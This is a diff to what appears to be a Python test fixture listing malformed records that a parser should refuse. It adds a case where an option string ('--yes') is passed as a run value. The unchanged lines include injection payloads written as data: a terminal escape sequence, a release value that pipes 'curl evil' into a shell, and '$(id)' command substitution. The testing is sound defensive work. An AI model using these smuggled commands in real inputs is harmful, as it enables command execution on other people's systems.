@@ -68,6 +68,7 @@ UNREADABLE = {
     "a pool that AWS would not name so": lambda forger, host: forger.record(host, out=[{"pool": "\x1b]52;c;eA==\x07"}]),
     "a release that is a command": lambda forger, host: forger.record(host, after="v1; curl evil|sh"),
     "a run that is a command": lambda forger, host: forger.record(host, by="$(id)"),
+    "a run that is an option": lambda forger, host: forger.record(host, by="--yes"),
     "another host's record": lambda forger, host: forger.record(host, host=STRANGER),
 }
 
